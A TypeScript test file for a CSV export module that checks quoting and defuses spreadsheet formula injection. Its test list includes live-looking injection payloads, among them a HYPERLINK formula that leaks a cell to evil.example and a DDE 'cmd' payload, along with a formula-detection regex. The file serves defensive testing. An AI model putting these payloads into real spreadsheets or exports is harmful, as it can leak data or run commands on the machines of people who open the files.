import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import Papa from 'papaparse';
import { writeCsv } from '../../server/src/export/csv.ts';
import { injections } from '../harness/injections.ts';
import { planWithEveryField } from '../render/every-field.ts';
import { exportPlan } from './export-plan.ts';

/** What a spreadsheet takes for a formula, as OWASP lists it. */
const formula = /^[\s"']*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]/;

const formulas = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '"=1+1"',
  '" =1+1',
  "'=1+1",
  '\uFF1D1+1',
  '=1,=2',
  'a","=1+1","',
  'a\n=1+1',
];

function parsed(csv: string): readonly (readonly string[])[] {
  const { data, errors } = Papa.parse<string[]>(csv, { delimiter: ',', newline: '\r\n' });
  assert.deepEqual(errors, []);
  // The last line break ends the last row, and the reader sees an empty row behind it.
  assert.deepEqual(data.at(-1), ['']);
  return data.slice(0, -1);
}

describe('a CSV file', () => {
  test('starts with a byte order mark, and ends every row with CR LF', () => {
    assert.equal(writeCsv([['a', 'b'], ['c']]), '\uFEFFa,b\r\nc\r\n');
  });

  test('quotes what would be read as another cell', () => {
    const rows = [['a,b', 'c"d', 'e\nf', ' g ', ''], ['h']];
    assert.deepEqual(parsed(writeCsv(rows)), rows);
  });

  for (const text of formulas) {
    test(`holds no formula for ${JSON.stringify(text)}`, () => {
      const rows = parsed(writeCsv([[text, 'next']]));
      assert.deepEqual(rows, [[formula.test(text) ? `'${text}` : text, 'next']]);
    });
  }

  test('leaves words alone that hold such signs elsewhere', () => {
    assert.equal(
      writeCsv([['Partner-sourced', 'a = b', 'x@example.com']]),
      '\uFEFFPartner-sourced,a = b,x@example.com\r\n',
    );
  });
});

for (const table of ['crm-fields', 'launch-tasks'] as const) {
  describe(`the table ${table}`, () => {
    test('has the same cells for all texts, and no formula in any of them', async () => {
      const plain = parsed(
        (
          await exportPlan(
            planWithEveryField(() => 'Plain words'),
            'csv',
            table,
          )
        ).text,
      );
      assert.ok(plain.length > 1);
      // A text of which nothing is left is no row.
      for (const text of [...injections, ...formulas].filter((each) => each.trim() !== '')) {
        const rows = parsed(
          (
            await exportPlan(
              planWithEveryField(() => text),
              'csv',
              table,
            )
          ).text,
        );
        assert.deepEqual(
          rows.map((row) => row.length),
          plain.map((row) => row.length),
          text,
        );
        for (const cell of rows.flat()) assert.doesNotMatch(cell.replace(/^'.*/s, 'text'), formula);
      }
    });

    test('holds its headings only, and says so, where the plan has nothing for it', async () => {
      const { text, notes } = await exportPlan('program:\n  company: Northwind\n', 'csv', table);
      assert.equal(parsed(text).length, 1);
      assert.match(notes.join(' '), /only its headings/);
    });
  });
}

test('a table of launch tasks gives the days that follow from the soft launch', async () => {
  const plan = `
launch:
  preLaunch:
    - task: Create the fields.
      owner: CRM admin
      due: 2027-01-15
      done: true
  softLaunch:
    starts: 2027-02-01
    length: 30 days
    validate: [Every registration is acknowledged.]
  fullLaunch:
    starts: 2027-03-08
    criteria: [Ten registrations went through.]
`;
  assert.deepEqual(parsed((await exportPlan(plan, 'csv', 'launch-tasks')).text).slice(1), [
    ['Pre-launch', 'Create the fields.', '', 'CRM admin', '', '2027-01-15', 'Yes'],
    ['Soft launch', 'Every registration is acknowledged.', '', '', '2027-02-01', '2027-03-02', ''],
    ['Full launch', 'Ten registrations went through.', '', '', '', '2027-03-08', ''],
  ]);
});
